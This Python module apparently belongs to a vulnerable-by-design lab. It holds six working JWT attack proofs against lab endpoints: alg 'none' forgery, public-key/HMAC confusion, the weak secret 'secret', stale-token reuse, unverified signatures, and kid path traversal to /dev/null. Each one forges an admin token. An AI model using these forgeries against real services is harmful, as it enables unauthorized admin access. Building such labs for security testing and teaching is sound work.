"""Exploits of tokens."""

import json
import time

from lab.client import Lab
from lab.jwt import encode
from lab.world import USERS


def _forged() -> dict[str, object]:
    return {"sub": "admin", "exp": int(time.time()) + 600}


async def _is_admin(lab: Lab, path: str, token: str) -> bool:
    reply = await lab.send("GET", f"{path}/me", headers={"Authorization": f"Bearer {token}"})
    return '"user": "admin"' in reply.text


async def _none(lab: Lab) -> bool:
    return await _is_admin(lab, "/api/v1", encode(_forged(), "none"))


async def _confusion(lab: Lab) -> bool:
    key = (await lab.get("/public.pem")).text.encode()
    return await _is_admin(lab, "/api/v2", encode(_forged(), "HS256", key))


async def _weak(lab: Lab) -> bool:
    return await _is_admin(lab, "/api/v3", encode(_forged(), "HS256", b"secret"))


async def _expiry(lab: Lab) -> bool:
    content = {"username": "admin", "password": USERS["admin"]}
    tokens = json.loads((await lab.send("POST", "/api/v4/token", json=content)).text)
    assert await _is_admin(lab, "/api/v4", tokens["token"])  # noqa: S101 - a proof's own premise
    return await _is_admin(lab, "/api/v4", tokens["previous"])


async def _unverified(lab: Lab) -> bool:
    return await _is_admin(lab, "/api/v7", encode(_forged(), "HS256", b"anything"))


async def _kid(lab: Lab) -> bool:
    return await _is_admin(lab, "/api/v8", encode(_forged(), "HS256", kid="../../../dev/null"))


PROOFS = {
    "jwt-none": _none,
    "jwt-confusion": _confusion,
    "jwt-weak-secret": _weak,
    "jwt-expiry": _expiry,
    "jwt-unverified": _unverified,
    "jwt-kid": _kid,
}
